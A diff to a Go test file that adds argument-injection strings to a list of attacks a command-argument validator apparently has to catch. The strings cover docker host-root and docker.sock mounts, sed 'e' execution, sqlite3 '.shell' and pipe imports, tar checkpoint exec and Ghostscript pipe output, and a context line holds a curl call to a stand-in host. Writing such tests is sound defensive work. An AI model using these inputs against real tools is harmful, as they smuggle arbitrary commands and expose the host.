@@ -63,6 +63,13 @@ var argumentAttacks = []string{
 	"--volume /root/.ssh:/k", "--mount type=bind,src=/var/run/docker.sock,dst=/s", "-v/proc:/p",
 	"\\! id", "-c \\! id", "-c '\\! id'", "\\o |id", "--command=\\! id", "x' \\g |sh", "x' \\! curl e.vil",
 	"--script-shell=/srv/uploads/x.sh", "-so",
+	// attack 18's: docker's cleaned paths, -v=, another option first;
+	// sed's other addresses and delimiters; zip's -TT attached;
+	// sqlite3's abbreviations and .import of a pipe; tar and gs
+	"-v //:/host", "-v /./:/host", "-v /.:/host", "-v=/:/host", "--mount type=bind,source=//,target=/h", "-v /var//run/docker.sock:/s",
+	"--rm -v /:/host", "-p 80:80 -v /:/host", "0~1e id", "1~2e id", "1,$e id", "1!e id", "s|x|id|e", "1{e id\n}",
+	"-cmd .sys id", "-cmd .sh id", "-cmd .import '|id' t", "-bail -cmd .shell id", "--checkpoint=1 --checkpoint-action=exec=id",
+	"-sOutputFile#%pipe%id",
 	// a twelfth fresh-eyes attack's (attack 16) B15: zip, sqlite3 and
 	// Ghostscript (210190)
 	"-T -TT id", "-T --unzip-command id", "--unzip-command=id", "-TT id", "-T --unzip-c=id", "-cmd .shell id", "-cmd .system id", "--cmd=.shell id",
@@ -182,7 +189,7 @@ func TestArgumentShapesLeaveTokensAlone(t *testing.T) {
 	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-~."
 	var shapes []*regexp.Regexp
 	for _, s := range argumentShapes {
-		shapes = append(shapes, regexp.MustCompile(`(?i)^\s*`+s))
+		shapes = append(shapes, regexp.MustCompile(`(?i)\A\s*`+otherOptions+s))
 	}
 	rng := rand.New(rand.NewPCG(10, 6))
 	matched := 0
